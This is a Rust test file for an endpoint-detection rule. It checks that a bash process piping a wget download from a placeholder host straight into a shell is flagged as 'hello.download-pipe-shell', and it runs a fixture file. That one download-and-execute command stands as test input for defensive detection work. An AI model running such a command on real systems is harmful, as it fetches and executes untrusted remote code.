//! Runs natively with `cargo test`: no Wasm, the SDK harness plays the agent.
use edr_sdk::testing::{exec, Harness};
use hello_detector::Hello;

#[test]
fn flags_download_piped_to_shell() {
    let mut h = Harness::<Hello>::new().unwrap();
    let hits = h.run(&[exec("/bin/bash", &["bash", "-c", "wget -qO- http://x/i.sh | bash"]).build()]);
    assert_eq!(hits.len(), 1);
    assert_eq!(hits[0].rule_id, "hello.download-pipe-shell");
}

#[test]
fn fixture_file() {
    let mut h = Harness::<Hello>::new().unwrap();
    let hits = h.run_fixture("tests/fixtures.jsonl");
    assert_eq!(hits.len(), 1, "{hits:#?}");
    assert_eq!(hits[0].event_ids, vec![1]);
}
